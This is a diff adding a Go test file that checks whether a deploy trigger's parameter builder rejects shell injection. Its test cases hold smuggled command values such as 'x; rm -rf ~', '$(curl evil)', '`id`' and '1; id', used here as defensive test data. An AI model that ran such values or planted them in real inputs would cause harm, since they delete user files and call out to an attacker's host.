@@ -0,0 +1,74 @@
+package yaml_config
+
+import (
+	"errors"
+	"testing"
+)
+
+func TestTriggerParamText(t *testing.T) {
+	trigger := TriggerItem{
+		Command:       "deploy",
+		Params:        map[string]string{"env": "staging"},
+		AllowedParams: []string{"branch", "count", "verbose", "target", "service", "undeclared"},
+	}
+	definitions := []ParamDefinition{
+		{Name: "env"},
+		{Name: "branch"},
+		{Name: "count", Type: ParamTypeInt},
+		{Name: "verbose", Type: ParamTypeBool},
+		{Name: "target", Type: ParamTypeEnum, Choices: []string{"a;b", "c"}},
+		{Name: "service", Type: ParamTypeEnum, ChoicesFrom: "docker-compose services of app"},
+	}
+	tests := []struct {
+		name    string
+		given   map[string]string
+		want    string
+		wantErr bool
+	}{
+		{name: "nothing given", given: map[string]string{}, want: `env="staging"`},
+		{name: "an allowed param", given: map[string]string{"branch": "feature/x-1.2"}, want: `branch="feature/x-1.2" env="staging"`},
+		{name: "spaces are no metacharacters", given: map[string]string{"branch": "a b"}, want: `branch="a b" env="staging"`},
+		{name: "a param the trigger does not allow", given: map[string]string{"env": "prod"}, wantErr: true},
+		{name: "a command separator", given: map[string]string{"branch": "x; rm -rf ~"}, wantErr: true},
+		{name: "a command substitution", given: map[string]string{"branch": "$(curl evil)"}, wantErr: true},
+		{name: "backquotes", given: map[string]string{"branch": "`id`"}, wantErr: true},
+		{name: "a pipe", given: map[string]string{"branch": "a|b"}, wantErr: true},
+		{name: "a line break", given: map[string]string{"branch": "a\nb"}, wantErr: true},
+		{name: "a quote", given: map[string]string{"branch": "a'b"}, wantErr: true},
+		{name: "an undeclared param is free text", given: map[string]string{"undeclared": "a&b"}, wantErr: true},
+		{name: "an enum with computed choices is free text", given: map[string]string{"service": "a>b"}, wantErr: true},
+		// the values of these types are checked against their declaration when the run is submitted
+		{name: "an int", given: map[string]string{"count": "$(x)"}, want: `count="$(x)" env="staging"`},
+		{name: "a bool", given: map[string]string{"verbose": "true"}, want: `env="staging" verbose="true"`},
+		{name: "an enum with fixed choices", given: map[string]string{"target": "a;b"}, want: `env="staging" target="a;b"`},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got, err := trigger.ParamText(test.given, definitions)
+			if test.wantErr {
+				if !errors.Is(err, ErrInvalidParams) {
+					t.Fatalf("got %q and %v, want an invalid params error", got, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got != test.want {
+				t.Errorf("got %s, want %s", got, test.want)
+			}
+		})
+	}
+}
+
+// an int refused by its declaration never reaches a run
+func TestTriggerParamTextIsCheckedBySubmit(t *testing.T) {
+	definitions := []ParamDefinition{{Name: "count", Type: ParamTypeInt}, {Name: "other"}}
+	text, err := (&TriggerItem{AllowedParams: []string{"count"}}).ParamText(map[string]string{"count": "1; id"}, definitions)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ParseParams(definitions, text); !errors.Is(err, ErrInvalidParams) {
+		t.Errorf("%s has been accepted", text)
+	}
+}